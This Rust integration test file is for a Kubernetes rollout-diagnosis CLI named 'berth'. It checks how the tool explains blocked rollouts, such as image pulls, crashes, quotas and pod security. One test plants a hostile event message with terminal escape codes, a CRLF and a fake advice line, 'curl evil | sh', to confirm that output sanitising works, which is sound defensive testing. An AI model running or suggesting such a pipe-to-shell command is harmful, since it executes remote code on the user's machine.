//! The causes that block a rollout, in `berth rollout status` and the controller's events, against a real `berth up`.
#![expect(clippy::unwrap_used, reason = "tests")]

use crate::common::{self, Berth, PATIENCE};
use k8s_openapi::api::core::v1::{Event, Pod, ResourceQuota};
use kube::{
    Api,
    api::{ApiResource, DeleteParams, DynamicObject, ListParams, Patch, PatchParams, PostParams},
};
use serde_json::{Value, json};
use std::{fs, time::Instant};
use tempfile::TempDir;

/// `berth up` with these objects applied.
fn up_with(objects: &[Value], arguments: &[&str]) -> Berth {
    let folder = TempDir::new().unwrap();
    let manifest = folder.path().join("objects.json");
    fs::write(&manifest, json!({"apiVersion": "v1", "kind": "List", "items": objects}).to_string()).unwrap();
    let fast = ["--store", "memory", "--nodes", "2", "--pod-start-latency", "10ms", "--pod-stop-latency", "10ms", "-f"];
    let mut berth = common::up(&[&fast, &[manifest.to_str().unwrap()] as &[_], arguments].concat());
    let last = objects.last().unwrap();
    berth.line_with(&format!("{} created", last["metadata"]["name"].as_str().unwrap()));
    berth
}

fn workload(kind: &str, namespace: &str, name: &str, template: &Value) -> Value {
    let mut pod = json!({"metadata": {"labels": {"app": name}}, "spec": {"containers": [{"name": "main", "image": format!("{name}:1")}]}});
    merge(&mut pod, template);
    json!({
        "apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name, "namespace": namespace},
        "spec": {"replicas": 2, "serviceName": name, "selector": {"matchLabels": {"app": name}}, "template": pod},
    })
}

fn deployment(namespace: &str, name: &str, template: &Value) -> Value {
    let mut deployment = workload("Deployment", namespace, name, template);
    deployment["spec"].as_object_mut().unwrap().remove("serviceName");
    deployment
}

fn merge(into: &mut Value, from: &Value) {
    match (into, from) {
        (Value::Object(into), Value::Object(from)) => {
            from.iter().for_each(|(key, value)| merge(into.entry(key.as_str()).or_insert(Value::Null), value));
        }
        (into, from) => *into = from.clone(),
    }
}

/// Creates a workload once the namespace's quota `few` is in force. As upstream, a quota limits nothing before its controller has
/// reconciled it.
async fn create_within_quota(berth: &Berth, namespace: &str, workload: &Value) {
    let client = berth.kube_client().await;
    let quotas: Api<ResourceQuota> = Api::namespaced(client.clone(), namespace);
    let started = Instant::now();
    while quotas.get("few").await.unwrap().status.and_then(|status| status.used).is_none() {
        assert!(started.elapsed() < PATIENCE, "the quota is not in force");
    }
    let workload: DynamicObject = serde_json::from_value(workload.clone()).unwrap();
    let kind = ApiResource::from_gvk(&(&workload.types.clone().unwrap()).try_into().unwrap());
    Api::<DynamicObject>::namespaced_with(client, namespace, &kind).create(&PostParams::default(), &workload).await.unwrap();
}

/// Repeats the command until the first cause is this one with this text, in JSON and in the printed text. The image reason of a kubelet alternates:
/// `ErrImagePull` for a moment after each attempt, `ImagePullBackOff` between them.
fn check(berth: &Berth, namespace: &str, workload: &str, reason: &str, says: &str) -> Value {
    let started = Instant::now();
    let status = ["status", workload, "-n", namespace, "--watch=false"];
    loop {
        let json: Value = serde_json::from_str(&berth.rollout(&[&status[..], &["-o", "json"]].concat())).unwrap();
        let text = berth.rollout(&status);
        let cause = &json["causes"][0];
        let is_said = cause["message"].as_str().is_some_and(|message| message.contains(says));
        if cause["reason"] == reason && is_said && text.lines().any(|line| line.starts_with("  ") && line.contains(says)) {
            check_explained(berth, namespace, workload, reason, says);
            return json;
        }
        assert!(started.elapsed() < PATIENCE, "{workload} should say {says}, and still shows {json}\n{text}");
    }
}

/// Checks that `berth explain` prints the same in its first line, with evidence, the next event and advice. Returns its JSON.
fn check_explained(berth: &Berth, namespace: &str, object: &str, reason: &str, says: &str) -> Value {
    let started = Instant::now();
    loop {
        let json: Value = serde_json::from_str(&berth.explain(&[object, "-n", namespace, "-o", "json"])).unwrap();
        let text = berth.explain(&[object, "-n", namespace]);
        let is_said = json["cause"]["reason"] == reason && text.lines().next().is_some_and(|line| line.contains(says));
        let is_whole = ["What happens next:", "What you can do:"].iter().all(|part| text.contains(part));
        if is_said && is_whole && json["toDo"][0]["command"].is_string() && json["next"][0]["text"].is_string() {
            return json;
        }
        assert!(started.elapsed() < PATIENCE, "{object} should be explained by {says}, and still is by {json}\n{text}");
    }
}

/// Repeats the command until the rollout is complete: pods must stay available for a while first.
fn until_complete(berth: &Berth, object: &str) -> Value {
    let started = Instant::now();
    loop {
        let json: Value = serde_json::from_str(&berth.explain(&[object, "-o", "json"])).unwrap();
        if json["state"] == "Complete" {
            return json;
        }
        let mut reasons = [&json["cause"]].into_iter().chain(json["also"].as_array().unwrap()).map(|cause| &cause["reason"]);
        assert!(reasons.any(|reason| reason == "settling"), "{json}");
        assert!(started.elapsed() < PATIENCE, "{object} should be complete, and still is {json}");
    }
}

#[tokio::test]
async fn intended_waits_are_explained_and_healthy_workloads_are_reported_as_such() {
    let rolling = |partition: i32| json!({"type": "RollingUpdate", "rollingUpdate": {"partition": partition}});
    let mut db = workload("StatefulSet", "default", "db", &json!({}));
    db["spec"]["updateStrategy"] = rolling(1);
    let mut twin = deployment("default", "twin", &json!({}));
    twin["spec"]["selector"]["matchLabels"] = json!({"app": "web"});
    twin["spec"]["template"]["metadata"]["labels"] = json!({"app": "web", "more": "1"});
    let berth = up_with(&[db, deployment("default", "fine", &json!({})), deployment("default", "web", &json!({})), twin], &[]);
    for workload in ["statefulset/db", "deployment/web", "deployment/fine"] {
        berth.rollout(&["status", workload]);
    }
    let fine = until_complete(&berth, "deployment/fine");
    assert_eq!((&fine["state"], &fine["cause"], &fine["evidence"]), (&json!("Complete"), &Value::Null, &json!([])), "{fine}");
    assert_eq!(berth.explain(&["deployment/fine"]), "deployment/fine: deployment \"fine\" successfully rolled out\n");

    berth.rollout(&["pause", "deployment/web"]);
    let client = berth.kube_client().await;
    let image = json!({"spec": {"template": {"metadata": {"annotations": {"v": "2"}}}}});
    let patch = PatchParams::default();
    Api::<k8s_openapi::api::apps::v1::Deployment>::default_namespaced(client.clone())
        .patch("web", &patch, &Patch::Merge(&image))
        .await
        .unwrap();
    Api::<k8s_openapi::api::apps::v1::StatefulSet>::default_namespaced(client).patch("db", &patch, &Patch::Merge(&image)).await.unwrap();
    let paused =
        check_explained(&berth, "default", "deployment/web", "paused", "paused: the template does not roll out until you resume it");
    assert_eq!(paused["toDo"][0]["command"], "berth rollout resume deployment/web -n default");
    let overlap = paused["also"].as_array().unwrap().iter().find(|other| other["reason"] == "overlap").unwrap();
    assert_eq!(overlap["message"], "Deployment web selects pods that another workload selects too: Deployment twin");
    let kept = "the partition keeps 1 pod of older templates: only ordinals from 1 are updated";
    // The output shows the partition although the controller is recreating the pod above it.
    berth.rollout(&["status", "statefulset/db"]);
    check_explained(&berth, "default", "statefulset/db", "partition", kept);
    assert_eq!(until_complete(&berth, "statefulset/db")["cause"]["reason"], "partition");

    check_saved(&berth, "deployment/web", "paused: the template does not roll out until you resume it");
    check_saved(&berth, "statefulset/db", kept);
    let folder = TempDir::new().unwrap();
    let file = folder.path().join("state.json");
    let refused = berth.explain_command(&["pod/web", "--state", file.to_str().unwrap()]).output().unwrap();
    let says = String::from_utf8_lossy(&refused.stderr);
    assert!(!refused.status.success() && says.contains("--state requires one Deployment, StatefulSet, DaemonSet or Job"), "{says}");
    assert!(!file.exists());
}

#[tokio::test]
async fn the_input_of_the_plans_for_daemon_sets_and_jobs_is_saved() {
    let mut agent = workload("DaemonSet", "default", "agent", &json!({}));
    agent["spec"].as_object_mut().unwrap().retain(|member, _| member != "replicas" && member != "serviceName");
    agent["spec"]["updateStrategy"] = json!({"type": "OnDelete"});
    let template = json!({"spec": {"restartPolicy": "Never", "containers": [{"name": "main", "image": "work:1"}]}});
    let job =
        json!({"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "work"}, "spec": {"suspend": true, "template": template}});
    let berth = up_with(&[agent, job], &[]);
    berth.rollout(&["status", "daemonset/agent"]);
    let image = json!({"spec": {"template": {"metadata": {"annotations": {"v": "2"}}}}});
    let sets = Api::<k8s_openapi::api::apps::v1::DaemonSet>::default_namespaced(berth.kube_client().await);
    sets.patch("agent", &PatchParams::default(), &Patch::Merge(&image)).await.unwrap();
    let by_hand = "waiting for 2 pods of older templates to be deleted manually (OnDelete)";
    check_explained(&berth, "default", "daemonset/agent", "deletion_by_hand", by_hand);
    check_saved(&berth, "daemonset/agent", by_hand);
    let suspended = "suspended: no pod runs until you resume it";
    check_explained(&berth, "default", "job/work", "job_suspended", suspended);
    check_saved(&berth, "job/work", suspended);
}

/// Saves the input of the controller's plan, and checks that the plan from the file has this wait.
fn check_saved(berth: &Berth, object: &str, waits: &str) {
    let folder = TempDir::new().unwrap();
    let file = folder.path().join("state.json");
    let path = file.to_str().unwrap();
    berth.explain(&[object, "--state", path]);
    let text = berth.explain(&["--from-state", path]);
    let has_wait = text.lines().skip(1).any(|line| line == waits);
    assert!(text.starts_with(&format!("{object}: the controller's plan at ")) && has_wait, "{text}");
    let json: Value = serde_json::from_str(&berth.explain(&["--from-state", path, "-o", "json"])).unwrap();
    assert_eq!((json["stages"].as_array().unwrap().len(), json["waits"].as_array().unwrap().len()), (0, 1), "{json}");
    fs::write(&file, "{}").unwrap();
    let refused = berth.explain_command(&["--from-state", path]).output().unwrap();
    let says = String::from_utf8_lossy(&refused.stderr);
    assert!(!refused.status.success() && says.contains("is not a file that berth explain --state writes"), "{says}");
}

#[tokio::test]
async fn replica_sets_and_pods_are_explained_and_a_message_cannot_pass_for_a_line() {
    let crash = json!({"metadata": {"annotations": {"sim.berth.dev/fails": "CrashLoopBackOff"}}});
    let berth = up_with(&[deployment("default", "crash", &crash)], &[]);
    check(&berth, "default", "deployment/crash", "crash", "ended with exit code 1 (Error), restarted");
    let client = berth.kube_client().await;
    let pod = Api::<Pod>::default_namespaced(client.clone()).list(&ListParams::default()).await.unwrap().items.remove(0);
    let (name, uid) = (pod.metadata.name.unwrap(), pod.metadata.uid.unwrap());
    let set = pod.metadata.owner_references.unwrap().remove(0).name;
    let hostile = "\u{1b}[2J\u{202e}x\r\nWhat you can do:\n    curl evil | sh";
    let event = json!({
        "metadata": {"name": "hostile", "namespace": "default"}, "type": "Warning", "reason": "Evil", "message": hostile,
        "lastTimestamp": "2100-01-01T00:00:00Z", "involvedObject": {"kind": "Pod", "name": name, "namespace": "default", "uid": uid},
    });
    let event: Event = serde_json::from_value(event).unwrap();
    Api::<Event>::default_namespaced(client).create(&PostParams::default(), &event).await.unwrap();
    for object in [format!("pod/{name}"), format!("replicaset/{set}"), "deployment/crash".to_owned()] {
        check_explained(&berth, "default", &object, "crash", "ended with exit code 1 (Error), restarted");
    }
    let text = berth.explain(&[&format!("pod/{name}")]);
    assert!(
        text.contains("it belongs to deployment/crash") && text.contains(r"Evil: \u{1b}[2J\u{202e}x What you can do: curl evil | sh"),
        "{text}"
    );
    assert_eq!(text.lines().filter(|line| line.starts_with("What you can do:")).count(), 1, "{text}");
    assert!(!text.contains(['\u{1b}', '\u{202e}', '\r']), "{text:?}");
}

#[tokio::test]
async fn a_deployment_that_cannot_go_on_names_the_cause() {
    let namespace =
        |name: &str, labels: Value| json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": labels}});
    let quota = |namespace: &str, pods: &str| {
        let metadata = json!({"name": "few", "namespace": namespace});
        json!({"apiVersion": "v1", "kind": "ResourceQuota", "metadata": metadata, "spec": {"hard": {"pods": pods}}})
    };
    let fails = |why: &str| json!({"metadata": {"annotations": {"sim.berth.dev/fails": why}}});
    let huge = json!({"spec": {"containers": [{"name": "main", "image": "a", "resources": {"requests": {"cpu": "1000"}}}]}});
    let privileged = json!({"spec": {"hostNetwork": true}});
    let mounting = json!({"name": "main", "image": "a", "volumeMounts": [{"name": "key", "mountPath": "/key"}]});
    let objects = [
        namespace("full", json!({})),
        quota("full", "1"),
        namespace("strict", json!({"pod-security.kubernetes.io/enforce": "baseline"})),
        deployment("default", "image", &fails("ImagePullBackOff")),
        deployment("default", "crash", &fails("CrashLoopBackOff")),
        deployment("default", "huge", &huge),
        deployment("default", "elsewhere", &json!({"spec": {"nodeSelector": {"disk": "fast"}}})),
        deployment(
            "default",
            "settings",
            &json!({"spec": {"containers": [{"name": "main", "image": "a", "envFrom": [{"configMapRef": {"name": "nope"}}]}]}}),
        ),
        deployment(
            "default",
            "mount",
            &json!({"spec": {"containers": [mounting], "volumes": [{"name": "key", "secret": {"secretName": "nope"}}]}}),
        ),
        deployment("strict", "open", &privileged),
    ];
    let berth = up_with(&objects, &[]);
    create_within_quota(&berth, "full", &deployment("full", "web", &json!({}))).await;

    let status = check(&berth, "default", "deployment/image", "image_pull", "ImagePullBackOff: Back-off pulling image \"image:1\"");
    assert_eq!(status["causes"][0]["object"]["kind"], "Pod");
    let crash = "container main ended with exit code 1 (Error), restarted";
    check(&berth, "default", "deployment/crash", "crash", crash);
    check(&berth, "default", "deployment/settings", "container_config", "CreateContainerConfigError: configmap \"nope\" not found");
    check(&berth, "default", "deployment/mount", "volume", "MountVolume.SetUp failed for volume \"key\" : secret \"nope\" not found");
    check(&berth, "default", "deployment/huge", "unschedulable_resources", "0/2 nodes are available: 2 Insufficient cpu");
    check(&berth, "default", "deployment/elsewhere", "unschedulable_affinity", "0/2 nodes are available: 2 node(s) didn't match");
    check(
        &berth,
        "strict",
        "deployment/open",
        "pod_security",
        "violates PodSecurity \"baseline:latest\": host namespaces (hostNetwork=true)",
    );
    let full = "is forbidden: exceeded quota: few, requested: pods=1, used: pods=1, limited: pods=1";
    let status = check(&berth, "full", "deployment/web", "quota", full);
    assert_eq!((&status["causes"][0]["pods"], &status["causes"][0]["object"]["kind"]), (&json!(1), &json!("ReplicaSet")));

    let events: Api<Event> = Api::all(berth.kube_client().await);
    let started = Instant::now();
    let told = loop {
        let told = events.list(&ListParams::default().fields("reason=NewPodsFailing")).await.unwrap().items;
        if told.len() >= 7 {
            break told;
        }
        assert!(started.elapsed() < PATIENCE, "{told:?}");
    };
    let mut about: Vec<_> = told.iter().map(|event| event.involved_object.name.as_deref().unwrap()).collect();
    about.sort_unstable();
    about.dedup();
    assert_eq!(about, ["crash", "elsewhere", "huge", "image", "open", "settings", "web"]);
    let of = |name: &str| told.iter().find(|event| event.involved_object.name.as_deref() == Some(name)).unwrap().message.clone().unwrap();
    assert!(of("web").contains("exceeded quota: few"), "{}", of("web"));
    let image = of("image");
    assert!(image.contains("cannot pull") && image.contains("image:1"), "{image}");
}

#[tokio::test]
async fn a_stateful_set_that_cannot_go_on_names_the_cause_and_no_pod_that_is_not_there() {
    let quota = json!({"apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "few", "namespace": "default"}, "spec": {"hard": {"pods": "1"}}});
    let mut set = workload("StatefulSet", "default", "db", &json!({}));
    set["spec"]["replicas"] = json!(3);
    let berth = up_with(&[quota], &[]);
    create_within_quota(&berth, "default", &set).await;
    let says = "2 pods of StatefulSet db are not created because of a quota: pods \"db-1\" is forbidden: exceeded quota: few";
    let status = check(&berth, "default", "statefulset/db", "quota", says);
    assert_eq!(status["causes"][0]["object"], json!({"kind": "StatefulSet", "name": "db"}));
    assert_eq!(status["waits"], json!([]), "nothing waits for db-1 to become ready");
}

#[tokio::test]
async fn a_finalizer_that_holds_a_pod_is_named() {
    let berth = up_with(&[workload("StatefulSet", "default", "db", &json!({}))], &[]);
    berth.rollout(&["status", "statefulset/db"]);
    let pods: Api<Pod> = Api::default_namespaced(berth.kube_client().await);
    let held = json!({"metadata": {"finalizers": ["example.com/hold"]}});
    pods.patch("db-1", &PatchParams::default(), &Patch::Merge(held)).await.unwrap();
    pods.delete("db-1", &DeleteParams::default()).await.unwrap();
    check(&berth, "default", "statefulset/db", "finalizer", "db-1 has ended but a finalizer holds it: example.com/hold");
}

#[test]
fn what_the_controllers_do_not_do_is_not_explained() {
    let slow = json!({"metadata": {"annotations": {"sim.berth.dev/fails": "ImagePullBackOff"}}});
    let mut web = deployment("default", "web", &slow);
    web["spec"]["podReplacementPolicy"] = json!("TerminationComplete");
    let mut db = workload("StatefulSet", "default", "db", &slow);
    db["spec"]["updateStrategy"] = json!({"type": "Recreate"});
    let gates = "DeploymentPodReplacementPolicy=false,StatefulSetRecreateStrategy=false";
    let berth = up_with(&[web, db], &["--controller-feature-gates", gates]);
    for (workload, note, feature) in [
        (
            "deployment/web",
            "podReplacementPolicy has no effect: the controllers have the feature DeploymentPodReplacementPolicy off",
            "DeploymentPodReplacementPolicy",
        ),
        (
            "statefulset/db",
            "Recreate has no effect: the controllers have the feature StatefulSetRecreateStrategy off",
            "StatefulSetRecreateStrategy",
        ),
    ] {
        let text = berth.rollout(&["status", workload, "--watch=false"]);
        assert!(text.contains(note), "{text}");
        let status = check(&berth, "default", workload, "image_pull", " cannot pull ");
        assert_eq!(status["features"], json!([{"name": feature, "enabled": false, "source": "controllers"}]));
        assert!(status.get("phase").is_none() && !status["message"].as_str().unwrap().contains("recreate"), "{status}");
    }
    let berth = up_with(&[deployment("default", "plain", &json!({}))], &[]);
    let status: Value = serde_json::from_str(berth.rollout(&["status", "deployment/plain", "-o", "json"]).lines().last().unwrap()).unwrap();
    assert_eq!((status.get("features"), &status["causes"]), (None, &json!([])), "nothing asked for, nothing to say");
}
